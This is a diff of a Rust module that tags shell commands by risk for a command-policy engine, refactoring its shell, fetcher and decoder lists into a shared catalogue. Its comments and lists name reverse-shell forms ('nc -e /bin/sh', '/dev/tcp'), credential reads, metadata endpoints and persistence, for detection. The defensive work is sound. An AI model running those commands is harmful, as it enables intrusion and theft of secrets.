@@ -1,94 +1,13 @@
 //! Risk tags: what a command does that a policy may want to stop, each with
 //! the evidence that established it.
 
+use sondera_catalogue::Role;
+use sondera_catalogue::places::is_null_device;
+use sondera_catalogue::programs::fetches;
+
 use super::paths::resolve;
-use super::{Invocation, ShellAnalysis, ShellContext, Stdin};
-
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, strum::IntoStaticStr)]
-#[strum(serialize_all = "snake_case")]
-pub enum RiskKind {
-    /// `rm -r`, `find -delete`, ... on a target outside the workspace.
-    DeleteOutsideWorkspace,
-    /// Recursive or forced delete confined to the workspace.
-    DeleteInWorkspace,
-    /// `dd` onto a device, `mkfs`, `wipefs`, `shred`, writing a block device.
-    DiskOverwrite,
-    /// Recursive or setuid permission/ownership change on a system path.
-    PermissionChange,
-    ForkBomb,
-    /// A shell reads its script from a pipe or process substitution.
-    PipeToShell,
-    /// The piped script comes from the network or a decoder.
-    RemoteScript,
-    PrivilegeEscalation,
-    ForcePush,
-    /// `git push` to a remote added in the same command, or to a URL.
-    PushToNewRemote,
-    /// A shell wired to a network connection (`nc -e /bin/sh`,
-    /// `bash -i >& /dev/tcp/h/p`, `socat exec:bash tcp:h:p`).
-    ReverseShell,
-    /// `terraform destroy`, `kubectl delete`, `DROP`/`TRUNCATE`, cloud deletes.
-    InfraDestroy,
-    /// Clearing shell history or logs.
-    HistoryTampering,
-    /// A program that cannot be known statically.
-    DynamicProgram,
-    /// An interpreter runs inline code (`python -c`, `perl -e`, ...).
-    InlineCode,
-    /// Inline code that deletes files, spawns commands or opens connections.
-    InlineCodeRisky,
-    /// The command could not be analysed.
-    Unparsable,
-    /// Reads a file that holds credentials (keys, cloud credentials, dotenv, ...).
-    SecretRead,
-    /// Searches home or the filesystem for credential-looking strings.
-    SecretSearch,
-    /// Sends data over the network (curl -d/-F/-T, wget --post-file, scp to a host, nc with input).
-    NetworkUpload,
-    /// What is sent is a file outside the workspace.
-    UploadExternalFile,
-    /// Prints the whole environment (env, printenv, /proc/*/environ).
-    EnvDump,
-    /// A DNS lookup of a name built at run time.
-    DnsExfil,
-    /// Reaches a cloud metadata endpoint (169.254.169.254, metadata.google.internal).
-    MetadataEndpoint,
-    /// Installs packages from a URL, a git repository or another index, or
-    /// changes the package registry.
-    UntrustedPackageSource,
-    /// Installs something that runs again later: crontab, sudoers, shell rc
-    /// files, systemd units, authorized_keys, git hooks.
-    Persistence,
-    /// The command hides what it is: NUL or other control bytes.
-    Obfuscated,
-    /// A shell started with nothing to run (`find -exec /bin/sh`, `vim -c
-    /// ':!sh'`, `env /bin/sh`): it reads its commands from whoever holds its
-    /// input, the shape of an escape rather than of work.
-    InteractiveShell,
-}
-
-impl RiskKind {
-    pub fn as_str(self) -> &'static str {
-        self.into()
-    }
-}
-
-/// A risk with the evidence for it.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Risk {
-    pub kind: RiskKind,
-    pub evidence: String,
-}
-
-const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh"];
-const FETCHERS: &[&str] = &["curl", "wget", "fetch", "nc", "ncat", "socat", "aria2c"];
-const DECODERS: &[&str] = &[
-    "base64", "base32", "xxd", "openssl", "gunzip", "zcat", "rev", "tr",
-];
-const SYSTEM_PATHS: &[&str] = &[
-    "/", "/etc", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/boot", "/var", "/sys", "/proc",
-    "/dev", "/opt", "/root", "/home",
-];
+use super::types::{Invocation, Risk, RiskKind, ShellAnalysis, ShellContext, Stdin, risk};
+use crate::places::Place;
 
 pub(super) fn assess(analysis: &mut ShellAnalysis, context: &ShellContext<'_>) {
     let mut found = Vec::new();
@@ -149,7 +68,7 @@ fn runs_download(
     out: &mut Vec<Risk>,
 ) {
     let program = i.program.as_str();
-    if FETCHERS.contains(&program) {
+    if fetches(program) {
         let saved = i.arg_words.windows(2).filter_map(|w| {
             matches!(
                 w[0].text.as_str(),
@@ -162,11 +81,11 @@ fn runs_download(
         }
         return;
     }
-    let runs_script = SHELLS.contains(&program)
-        || super::code::interpreter(program).is_some()
+    let runs_script = Role::Shell.includes(program)
+        || super::interpreters::interpreter(program).is_some()
         || matches!(program, "source" | ".");
     let script = if runs_script {
-        operands(i).next().map(|w| resolve(w, ctx).path)
+        i.operand_words().next().map(|w| resolve(w, ctx).path)
     } else if i.path.contains('/') {
         Some(
             resolve(
@@ -196,20 +115,13 @@ fn changed_directory(i: &Invocation, ctx: &ShellContext<'_>) -> Option<String> {
     if !matches!(i.program.as_str(), "cd" | "pushd") {
         return None;
     }
-    let Some(target) = operands(i).next() else {
+    let Some(target) = i.operand_words().next() else {
         return Some(ctx.home.to_string());
     };
     if target.text == "-" || (target.dynamic && !target.home_relative) {
         return Some("/".into());
     }
     Some(resolve(target, ctx).path)
-}
-
-fn risk(kind: RiskKind, evidence: impl Into<String>) -> Risk {
-    Risk {
-        kind,
-        evidence: evidence.into(),
-    }
 }
 
 fn calls_itself_in_background(analysis: &ShellAnalysis, function: &str) -> bool {
@@ -292,11 +204,7 @@ fn packages(i: &Invocation, out: &mut Vec<Risk>) {
     let pip = i.program.starts_with("pip")
         || (i.program.starts_with("python") && args.windows(2).any(|w| w == ["-m", "pip"]));
     let installs = args.iter().any(|a| matches!(*a, "install" | "add" | "i"));
-    let manager = pip
-        || matches!(
-            i.program.as_str(),
-            "npm" | "yarn" | "pnpm" | "bun" | "cargo" | "gem" | "uv" | "poetry"
-        );
+    let manager = pip || Role::PackageManager.includes(&i.program);
     let from_elsewhere = manager
         && installs
         && (args.iter().any(|a| remote(a) && elsewhere(a)) || index_values.iter().any(elsewhere));
@@ -361,7 +269,7 @@ fn package_config(path: &str) -> bool {
 
 /// Writes that point package installs at another source.
 fn package_config_writes(i: &Invocation, ctx: &ShellContext<'_>, out: &mut Vec<Risk>) {
-    let tee_targets = (i.program == "tee").then(|| operands(i).collect::<Vec<_>>());
+    let tee_targets = (i.program == "tee").then(|| i.operand_words().collect::<Vec<_>>());
     for target in i.writes.iter().chain(tee_targets.into_iter().flatten()) {
         let path = resolve(target, ctx).path;
         if package_config(&path) {
@@ -427,7 +335,7 @@ fn files_written(i: &Invocation) -> Vec<&super::word::Word> {
                 .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('i')));
     let mut written: Vec<&super::word::Word> =
         if in_place || matches!(p, "tee" | "cp" | "mv" | "install" | "ln" | "rsync" | "scp") {
-            operands(i).collect()
+            i.operand_words().collect()
         } else {
             Vec::new()
         };
@@ -501,26 +409,26 @@ fn has_flag(args: &[String], short: char, long: &str) -> bool {
     })
 }
 
-fn operands(i: &Invocation) -> impl Iterator<Item = &super::word::Word> {
-    i.arg_words.iter().filter(|w| !w.text.starts_with('-'))
-}
-
 fn deletes(i: &Invocation, ctx: &ShellContext<'_>, outside: &mut Vec<String>, out: &mut Vec<Risk>) {
     let targets: Vec<&super::word::Word> = match i.program.as_str() {
         "rm" if has_flag(&i.args, 'r', "--recursive")
             || has_flag(&i.args, 'R', "--recursive")
             || has_flag(&i.args, 'f', "--force") =>
         {
-            operands(i).collect()
+            i.operand_words().collect()
         }
-        "rmdir" | "unlink" => operands(i).collect(),
+        "rmdir" | "unlink" => i.operand_words().collect(),
         // `rsync --delete SRC DEST` deletes whatever in DEST is not in SRC.
         "rsync" if i.args.iter().any(|a| a.starts_with("--delete")) => {
-            operands(i).last().into_iter().collect()
+            i.operand_words().last().into_iter().collect()
         }
         // `mv X /dev/null` destroys X.
-        "mv" if operands(i).last().is_some_and(|w| w.text == "/dev/null") => {
-            let all: Vec<_> = operands(i).collect();
+        "mv" if i
+            .operand_words()
+            .last()
+            .is_some_and(|w| w.text == "/dev/null") =>
+        {
+            let all: Vec<_> = i.operand_words().collect();
             all[..all.len() - 1].to_vec()
         }
         "truncate" => {
@@ -552,8 +460,9 @@ fn deletes(i: &Invocation, ctx: &ShellContext<'_>, outside: &mut Vec<String>, ou
             .filter(|w| !w.text.starts_with("/dev/"))
             .collect(),
         // Run by `find -exec`, `rm` deletes whatever find finds, recursively.
-        "rm" if i.wrappers.iter().any(|w| w == "find") => operands(i).collect(),
-        "find" if i.args.iter().any(|a| a == "-delete") => operands(i)
+        "rm" if i.wrappers.iter().any(|w| w == "find") => i.operand_words().collect(),
+        "find" if i.args.iter().any(|a| a == "-delete") => i
+            .operand_words()
             .take_while(|w| !w.text.starts_with('(') && !w.text.starts_with('!'))
             .take(1)
             .collect(),
@@ -655,7 +564,7 @@ fn disk(i: &Invocation, out: &mut Vec<Risk>) {
         .iter()
         .any(|w| w.text.starts_with("/dev/") && !is_null_device(&w.text));
     let copy_to_device = matches!(p, "cp" | "mv" | "tee" | "install")
-        && operands(i)
+        && i.operand_words()
             .skip(usize::from(p != "tee"))
             .any(|w| w.text.starts_with("/dev/") && !is_null_device(&w.text));
     if (p == "dd" && device_write)
@@ -671,15 +580,6 @@ fn disk(i: &Invocation, out: &mut Vec<Risk>) {
     }
 }
 
-pub(super) fn is_null_device(path: &str) -> bool {
-    matches!(
-        path,
-        "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/zero"
-    ) || path.starts_with("/dev/fd/")
-        || path.starts_with("/dev/tcp/")
-        || path.starts_with("/dev/udp/")
-}
-
 fn permissions(i: &Invocation, ctx: &ShellContext<'_>, out: &mut Vec<Risk>) {
     if !matches!(i.program.as_str(), "chmod" | "chown" | "chgrp") {
         return;
@@ -692,16 +592,18 @@ fn permissions(i: &Invocation, ctx: &ShellContext<'_>, out: &mut Vec<Risk>) {
                     && a.starts_with(['2', '4', '6'])
                     && a.chars().all(|c| c.is_ascii_digit()))
         });
-    for target in operands(i).skip(usize::from(i.program != "chmod" || !setuid).min(1)) {
+    for target in i
+        .operand_words()
+        .skip(usize::from(i.program != "chmod" || !setuid).min(1))
+    {
         let path = resolve(target, ctx).path;
-        let system = SYSTEM_PATHS.iter().any(|s| {
-            path == *s
-                || (*s != "/"
-                    && path
-                        .strip_prefix(*s)
-                        .is_some_and(|rest| rest.starts_with('/')))
-        });
-        if setuid || (recursive && system) || path == "/" {
+        // Below the workspace and scratch space, a recursive change is
+        // ordinary work; on the system or a home directory it is not.
+        let broad = matches!(
+            crate::places::place(&path, ctx.workspace_root, ctx.home),
+            Place::System | Place::Home
+        ) || crate::places::holds_home(&path, ctx.home);
+        if setuid || (recursive && broad) || path == "/" {
             out.push(risk(
                 RiskKind::PermissionChange,
                 format!("{} {} on {path}", i.program, i.args.join(" ")),
@@ -716,7 +618,7 @@ const SHELL_INFO_OPTIONS: &[&str] = &["--version", "--help", "-h", "-V", "--rcfi
 /// A shell given no command, script, stream or here-document: interactive.
 fn interactive_shell(i: &Invocation, out: &mut Vec<Risk>) {
     let program = i.program.as_str();
-    if !SHELLS.contains(&program) {
+    if !Role::Shell.includes(program) {
         return;
     }
     let runs_something = i.args.iter().any(|a| {
@@ -749,13 +651,13 @@ fn shells(i: &Invocation, out: &mut Vec<Risk>) {
     interactive_shell(i, out);
     let program = i.program.as_str();
     let sources_script = matches!(program, "source" | ".");
-    let interpreter = super::code::runs_script(i);
-    if !SHELLS.contains(&program) && !interpreter && !sources_script {
+    let interpreter = super::interpreters::runs_script(i);
+    if !Role::Shell.includes(program) && !interpreter && !sources_script {
         return;
     }
     let reads_script = |sources: &[String]| {
-        let fetched = sources.iter().any(|s| FETCHERS.contains(&s.as_str()));
-        let decoded = sources.iter().any(|s| DECODERS.contains(&s.as_str()));
+        let fetched = sources.iter().any(|s| fetches(s));
+        let decoded = sources.iter().any(|s| Role::Decoder.includes(s));
         (fetched, decoded)
     };
     let runs_stdin =
@@ -982,7 +884,7 @@ fn history(i: &Invocation, ctx: &ShellContext<'_>, out: &mut Vec<Risk>) {
     let p = i.program.as_str();
     let clears = (p == "history" && has_flag(&i.args, 'c', "--clear"))
         || (matches!(p, "rm" | "shred" | "truncate" | "unlink")
-            && operands(i).any(touches_history))
+            && i.operand_words().any(touches_history))
         || (p == "unset" && i.args.iter().any(|a| a == "HISTFILE"))
         || (matches!(p, "export" | "declare" | "typeset" | "set")
             && i.args.iter().any(|a| {
@@ -992,7 +894,7 @@ fn history(i: &Invocation, ctx: &ShellContext<'_>, out: &mut Vec<Risk>) {
                     || a == "+o" && i.args.iter().any(|b| b == "history")
             }))
         || i.assignments.iter().any(|a| a == "HISTFILE")
-        || (p == "ln" && operands(i).last().is_some_and(touches_history))
+        || (p == "ln" && i.operand_words().last().is_some_and(touches_history))
         || (p == "journalctl" && i.args.iter().any(|a| a.starts_with("--vacuum")))
         || i.writes.iter().any(touches_history);
     if clears {
